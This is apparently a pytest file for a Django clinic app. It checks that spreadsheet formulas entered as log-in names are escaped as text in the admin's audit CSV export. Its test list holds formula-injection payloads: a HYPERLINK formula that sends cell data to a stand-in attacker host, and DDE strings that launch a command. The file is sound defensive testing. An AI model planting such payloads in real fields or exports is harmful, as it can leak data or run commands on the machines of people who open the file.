"""The audit export is inert: a formula planted as a log-in name never reaches a spreadsheet.

An anonymous visitor types a spreadsheet formula as the user name on the log-in page; the
failed log-in is audited under that name, and the clinic admin's CSV export must carry it as
text (a leading apostrophe), not as a formula a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from painclinic.web.accounts.models import Role
from painclinic.web.lib.spreadsheet import FORMULA_START, inert

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def exported_rows(client_for) -> list[list[str]]:
    response = client_for(Role.CLINIC_ADMIN).get(reverse("audit:export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_typed_as_a_login_name_is_exported_as_text(client_for):
    visitor = Client()
    for name in PLANTED:
        visitor.post(reverse("accounts:login"), {"username": name, "password": "whatever"})
    rows = exported_rows(client_for)
    header, body = rows[0], rows[1:]
    user_column = header.index("user")
    users = [row[user_column] for row in body]
    for name in PLANTED:
        assert "'" + name in users, name
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


def test_ordinary_cells_are_unchanged(client_for, users):
    rows = exported_rows(client_for)
    body = rows[1:]
    assert any(users[Role.CLINIC_ADMIN].username in row for row in body)
    assert inert("dr_okafor") == "dr_okafor"
    assert inert(-3) == -3 and inert(12) == 12
    assert inert("") == ""
    assert inert("a=b") == "a=b"
    # The log-in form strips surrounding white space; a tab or CR start is inert too.
    assert inert("\t=1+1") == "'\t=1+1" and inert("\r=1+1") == "'\r=1+1"
